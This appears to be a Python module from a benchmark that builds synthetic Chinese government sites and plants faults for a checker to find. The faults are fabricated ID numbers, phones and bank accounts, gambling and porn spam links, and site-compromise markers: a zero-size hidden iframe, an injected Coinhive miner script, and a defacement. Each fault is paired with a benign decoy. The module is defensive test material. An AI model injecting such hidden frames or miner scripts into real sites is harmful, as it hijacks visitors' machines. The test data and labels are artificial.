"""What other authors would plant of personal data, vice and attacks, and what they would take for innocent."""

from bench.stranger.model import Answer, Site
from bench.stranger.planting.kinds import QUIET, Truth, address, fault, near, no, pick, says, yes
from bench.stranger.planting.safety import identity
from bench.stranger.rendering import plain_page


@fault("privacy", None, ways=4)
def privacy_otherwise(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, "tz")
    name, number = site.words.person(), identity(site.rng)
    phone = f"138{site.rng.randint(10000000, 99999999)}"
    if n == 0:
        i.raw += f"<ul><li>户主：{name}　公民身份号码 {number[:6]} {number[6:14]} {number[14:]}</li></ul>"
    elif n == 1:
        rows = "".join(
            f"<tr><td>{site.words.person()}</td><td>1{site.rng.choice('3578')}{site.rng.randint(100000000, 999999999)}</td><td>{site.place}青石镇{m}组</td></tr>"
            for m in range(1, 6)
        )
        i.raw += f"<table><tr><td>低保户姓名</td><td>手机</td><td>住址</td></tr>{rows}</table>"
    elif n == 2:
        i.raw += (
            f"<p>补助发放：{name}，身份证{number}，一卡通账号6217{site.rng.randint(10**14, 10**15 - 1)}</p>"
        )
    else:
        i.body.append(f"中奖名单：{name}（{phone}，身份证号：{number.lower()}）")
    return [yes("L-16 S-privacy", address(site, key, i), "personal data")]


@near("privacy", None, ways=3)
def no_personal_data(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, "tz")
    r = site.rng
    words = (
        f"招标编号：JX{r.randint(10**15, 10**16 - 1)}，账号：1509{r.randint(10**12, 10**13 - 1)}（保证金专户，开户名：{site.organiser}）。",
        f"报名请联系：办公室，手机138****{r.randint(1000, 9999)}，固定电话{site.phone}。",
        f"不动产权证号：赣（2026）不动产权第00{r.randint(10000, 99999)}号，宗地代码36010{r.randint(1, 9)}001001GB{r.randint(10000, 99999)}。",
    )[n]
    return says(site, key, i, words, "L-16 S-privacy")


@fault("vice", None, ways=3)
def vice_otherwise(site: Site, n: int) -> list[Truth]:
    host = f"www.{('lvyou', 'shequ', 'tupian')[n]}{site.rng.randint(100, 999)}.com"
    words = (
        "葡京赌场 百家乐 轮盘 真钱投注 开户即送",
        "激情小说 成人视频 无码在线",
        "六合彩 特码 开奖 投注 网上赌场",
    )[n]
    site.others[f"http://{host}/"] = plain_page(words, f"<h1>{words}</h1><p>{words}，立即注册。</p>")
    if n == 0:
        site.flags["friends"] = [*site.flags["friends"], ("旅游网", f"http://{host}/")]
    elif n == 1:
        _, i = pick(site, *QUIET)
        i.raw += f'<p><a href="http://{host}/"><img src="/images/top.jpg" alt="活动海报"></a></p>'
    else:
        site.columns["tz"].lead = f'<p>友情提示：更多图片请访问 <a href="http://{host}/">图片库</a></p>'
    return [
        yes("W-V1.3 S-spam S-redirect", None, "a link to " + words),
        yes("L-11 S-hidden", None, "", optional=True),
    ]


@near("vice", None, ways=2)
def honest_lottery(site: Site, n: int) -> list[Truth]:
    host = f"www.{site.host.split('.')[1]}fucai.org.cn"
    title = ("福利彩票发行中心", "体育彩票管理中心")[n]
    site.others[f"http://{host}/"] = plain_page(
        title, f"<h1>{title}</h1><p>公布开奖结果、公益金使用情况。理性购彩，未成年人不得购买彩票。</p>"
    )
    _, i = pick(site, *QUIET)
    i.links.append((title, f"http://{host}/"))
    return [no("W-V1.3 S-spam", None, title)]


@fault("homehack", None, ways=3)
def attacked(site: Site, n: int) -> list[Truth]:
    host = f"cdn{site.rng.randint(100, 999)}.top"
    site.others[f"http://{host}/*"] = Answer(b"", "application/javascript")
    if n == 0:
        site.home_head += f'<iframe src="http://{host}/i.htm" width="0" height="0"></iframe>'
    elif n == 1:
        site.home_head += f'<script src="http://{host}/coinhive.min.js"></script><script>var m=new CoinHive.Anonymous("k1");m.start();</script>'
    else:
        _, i = pick(site, *QUIET)
        i.title, i.body = (
            "Hacked By Gh0st Team",
            ["HACKED BY Gh0st Team", "Your security is low. Greetz to all."],
        )
    return [
        yes(
            "W-V1.4 W-V1.3 S-script S-hidden S-tamper S-spam",
            None,
            ("a frame of no size", "a miner", "an article written over")[n],
        )
    ]


@near("homehack", None, ways=2)
def frames_of_service(site: Site, n: int) -> list[Truth]:
    site.home_html += (
        '<iframe src="http://zwfw.shengji.gov.cn/tianqi.html" width="300" height="60" frameborder="0" scrolling="no"></iframe>',
        '<script src="http://zwfw.shengji.gov.cn/js/tj.js"></script><div id="map"></div>',
    )[n]
    return [no("W-V1.4 S-script S-hidden", None, "a service of the province")]
